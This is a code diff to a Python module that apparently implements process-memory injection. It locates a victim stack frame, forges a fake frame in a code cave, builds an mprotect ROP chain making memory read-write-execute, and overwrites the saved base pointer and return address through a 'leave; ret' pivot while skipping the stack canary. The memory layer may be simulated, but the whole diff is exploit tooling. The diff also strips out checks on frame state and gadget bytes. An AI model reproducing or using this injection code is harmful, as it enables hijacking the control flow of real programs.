@@ -14,7 +14,7 @@ from __future__ import annotations
 from dataclasses import dataclass
 
 from . import caves, explorer, gadgets, machine
-from .memspace import PAGE_SIZE, AddressSpace, MemoryFault, PageRun
+from .memspace import PAGE_SIZE, AddressSpace, PageRun
 from .probe import WRITABLE
 
 
@@ -33,7 +33,12 @@ class VictimFrame:
     rbp_slot_addr: int
     saved_rbp: int
     saved_rip: int
-    canary_slot_addr: int
+
+    @property
+    def canary_slot_addr(self) -> int:
+        """The slot conventionally holding the stack canary, just below the
+        saved base pointer."""
+        return self.rbp_slot_addr - 8
 
     @property
     def resume_rsp(self) -> int:
@@ -87,11 +92,9 @@ class FakeFrameImage:
 
 
 def locate_victim_frame(pm: explorer.PageMap, stack_ptr: int) -> VictimFrame:
-    """The frame ``explorer.frame_above`` finds above ``stack_ptr``, with
-    the slot conventionally holding the stack canary, just below the saved
-    base pointer; its NoFrameError passes through when there is none."""
-    slot, rbp, rip = explorer.frame_above(pm, stack_ptr)
-    return VictimFrame(slot, rbp, rip, canary_slot_addr=slot - 8)
+    """The frame ``explorer.frame_above`` finds above ``stack_ptr``; its
+    NoFrameError passes through when there is none."""
+    return VictimFrame(*explorer.frame_above(pm, stack_ptr))
 
 
 def forge_fake_frame(
@@ -111,10 +114,12 @@ def forge_fake_frame(
     resumes the victim; without one the continuation is the victim's saved
     rip, so no injected code runs.  The cave is the first in ``cave_list``
     that holds all of it, else NoCaveError names the size needed.  The
-    epilogue is the census's lowest ``leave; ret``.
+    epilogue is the census's lowest ``leave; ret``.  The catalog must pass
+    ``require`` for the chain's kinds and ``leave-ret``, as the gadgets
+    stage makes sure it does.
     """
     # a gadget and an immediate per loader, then the syscall
-    chain_words = 2 * len(gadgets.required_kinds(variant)) - 1
+    chain_words = 2 * len(gadgets.CHAINS[variant]) - 1
     payload_off = payload_offset(chain_words)
     frame_len = 8 * (chain_words + 2)
     if marker_value is None:
@@ -125,8 +130,6 @@ def forge_fake_frame(
     chain = gadgets.build_mprotect_chain(
         catalog, cave.start, cave.end - cave.start, machine.PROT_RWX, variant)
     epilogue = catalog.lowest("leave-ret")
-    if epilogue is None:
-        raise gadgets.MissingGadgetError(["leave-ret"])
     words = [gadgets.ChainWord(victim.saved_rbp, "saved-rbp"), *chain]
     if marker_value is None:
         words.append(gadgets.ChainWord(victim.saved_rip, "resume-address"))
@@ -148,11 +151,10 @@ def inject(pm: explorer.PageMap, victim: VictimFrame, image: FakeFrameImage) -> 
 
     Every page either write touches is clawed through ``pm`` first; the
     store already holds them, so this pays no transaction.  The first page
-    not writable raises InjectionError with nothing written.  The frame
-    slots and the epilogue are then read through ``pm``.  The image goes
-    into the cave first, then both frame slots in one 16-byte write, so the
-    frame is never half-armed.  The canary slot below the frame is never
-    written."""
+    not writable raises InjectionError with nothing written.  The image
+    goes into the cave first, then both frame slots in one 16-byte write,
+    so the frame is never half-armed.  The canary slot below the frame is
+    never written."""
     slot, cave, epilogue = victim.rbp_slot_addr, image.cave.start, image.epilogue
     frame = cave.to_bytes(8, "little") + epilogue.to_bytes(8, "little")
     writes = ((cave, image.image_bytes()), (slot, frame))
@@ -160,18 +162,5 @@ def inject(pm: explorer.PageMap, victim: VictimFrame, image: FakeFrameImage) -> 
         for base in range(AddressSpace.page_base(addr), addr + len(data), PAGE_SIZE):
             if pm.claw(base) is not WRITABLE:
                 raise InjectionError(f"page {base:#x} is not writable")
-    current = pm.read(slot, 16)
-    cur_rbp = int.from_bytes(current[:8], "little")
-    cur_rip = int.from_bytes(current[8:], "little")
-    if cur_rbp != victim.saved_rbp or cur_rip != victim.saved_rip:
-        raise InjectionError(
-            "victim frame slots changed since location; already armed?"
-        )
-    try:
-        gadget = pm.read(epilogue, 2)
-    except MemoryFault:
-        raise InjectionError("epilogue gadget address is unreadable") from None
-    if gadget != b"\xc9\xc3":
-        raise InjectionError("epilogue gadget is not a leave; ret site")
     for addr, data in writes:
         pm.prober.safe_write(pm.space, addr, data)
